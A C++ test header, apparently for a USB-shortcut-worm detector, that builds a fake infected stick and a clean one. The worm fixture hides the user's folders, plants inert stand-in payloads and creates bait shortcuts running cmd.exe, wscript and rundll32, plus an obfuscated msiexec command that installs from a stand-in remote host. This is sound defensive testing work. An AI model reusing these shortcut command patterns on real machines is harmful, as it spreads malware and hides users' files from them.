// Real shortcut files for the tests, made by the platform's own shell link object.
#pragma once

#include <windows.h>

#include <objbase.h>
#include <objidl.h>
#include <shlguid.h>
#include <shobjidl.h>

#include <string>

namespace tollivar::test {

struct LinkSpec {
    std::wstring target;
    std::wstring arguments = {};
    std::wstring workingDir = {};
    std::wstring iconLocation = {};
};

// Writes the shortcut at path (wide); true when it was saved.
inline bool MakeShellLink(const std::wstring& path, const LinkSpec& spec) {
    const HRESULT init = CoInitializeEx(nullptr, COINIT_APARTMENTTHREADED);
    bool saved = false;
    IShellLinkW* link = nullptr;
    if (SUCCEEDED(CoCreateInstance(CLSID_ShellLink, nullptr, CLSCTX_INPROC_SERVER, IID_IShellLinkW,
                                   reinterpret_cast<void**>(&link)))) {
        link->SetPath(spec.target.c_str());
        if (!spec.arguments.empty()) link->SetArguments(spec.arguments.c_str());
        if (!spec.workingDir.empty()) link->SetWorkingDirectory(spec.workingDir.c_str());
        if (!spec.iconLocation.empty()) link->SetIconLocation(spec.iconLocation.c_str(), 3);
        IPersistFile* file = nullptr;
        if (SUCCEEDED(link->QueryInterface(IID_IPersistFile, reinterpret_cast<void**>(&file)))) {
            saved = SUCCEEDED(file->Save(path.c_str(), TRUE));
            file->Release();
        }
        link->Release();
    }
    if (SUCCEEDED(init)) CoUninitialize();
    return saved;
}

inline bool WriteWide(const std::wstring& path, const std::string& content,
                      DWORD attributes = FILE_ATTRIBUTE_NORMAL) {
    HANDLE f =
        CreateFileW(path.c_str(), GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
    if (f == INVALID_HANDLE_VALUE) return false;
    DWORD written = 0;
    const bool ok = WriteFile(f, content.data(), static_cast<DWORD>(content.size()), &written, nullptr) &&
                    written == content.size();
    CloseHandle(f);
    return ok && SetFileAttributesW(path.c_str(), attributes);
}

inline std::string ReadWide(const std::wstring& path) {
    HANDLE f = CreateFileW(path.c_str(), GENERIC_READ, FILE_SHARE_READ, nullptr, OPEN_EXISTING, 0, nullptr);
    if (f == INVALID_HANDLE_VALUE) return {};
    std::string content(1 << 16, '\0');
    DWORD got = 0;
    ReadFile(f, content.data(), static_cast<DWORD>(content.size()), &got, nullptr);
    CloseHandle(f);
    content.resize(got);
    return content;
}

constexpr DWORD kHiddenSystem = FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_SYSTEM;

// A stick as a shortcut worm leaves it (the root given as L"E:\\"): the user's folders and document
// hidden + system, a blank-looking folder holding files, hidden payloads, and a bait shortcut for each.
struct WormStick {
    static constexpr wchar_t kBlank[] = L"\u00A0";
    static constexpr wchar_t kReport[] = L"\u041E\u0442\u0447\u0451\u0442.doc"; // a Cyrillic name

    static bool Lay(const std::wstring& root) {
        const std::wstring sys = L"C:\\windows\\system32\\";
        bool ok = CreateDirectoryW((root + L"Photos").c_str(), nullptr) &&
                  WriteWide(root + L"Photos\\beach.jpg", "JPEG beach") &&
                  SetFileAttributesW((root + L"Photos").c_str(), kHiddenSystem) &&
                  CreateDirectoryW((root + kBlank).c_str(), nullptr) &&
                  WriteWide(root + kBlank + L"\\notes.txt", "my notes") &&
                  SetFileAttributesW((root + kBlank).c_str(), kHiddenSystem) &&
                  CreateDirectoryW((root + L"Music").c_str(), nullptr) &&
                  WriteWide(root + L"Music\\song.mp3", "ID3 song") &&
                  SetFileAttributesW((root + L"Music").c_str(), kHiddenSystem) &&
                  WriteWide(root + kReport, "report text", kHiddenSystem) &&
                  WriteWide(root + L"x.vbs", "' stand-in payload: does nothing", FILE_ATTRIBUTE_HIDDEN) &&
                  WriteWide(root + L"x.dat", "' stand-in payload", FILE_ATTRIBUTE_HIDDEN) &&
                  WriteWide(root + L"x.dll", "MZ stand-in", kHiddenSystem);
        ok = ok && MakeShellLink(root + L"Photos.lnk",
                                 {sys + L"cmd.exe",
                                  std::wstring(L"/c start x.vbs & start explorer \"") + kBlank + L"\" & exit",
                                  {},
                                  L"%SystemRoot%\\system32\\shell32.dll"});
        ok = ok && MakeShellLink(root + kReport + L".lnk", {sys + L"wscript.exe", L"//e:vbscript x.dat"});
        ok = ok && MakeShellLink(root + L"Music.lnk", {sys + L"rundll32.exe", L"x.dll,Entry"});
        ok = ok && MakeShellLink(root + L"Setup.lnk",
                                 {sys + L"cmd.exe", L"/c ms^iex^ec /q /i \"http://bad.example/p.msi\""});
        return ok;
    }
};

// A clean stick: ordinary shortcuts to a document on it and to a program on the computer.
inline bool LayCleanStick(const std::wstring& root) {
    return WriteWide(root + L"Report.doc", "report") &&
           MakeShellLink(root + L"Report.lnk", {root + L"Report.doc"}) &&
           MakeShellLink(root + L"Notepad.lnk", {L"C:\\windows\\notepad.exe", L"Report.doc"}) &&
           MakeShellLink(root + L"\u041F\u0430\u043F\u043A\u0430.lnk", {L"C:\\windows"});
}

} // namespace tollivar::test
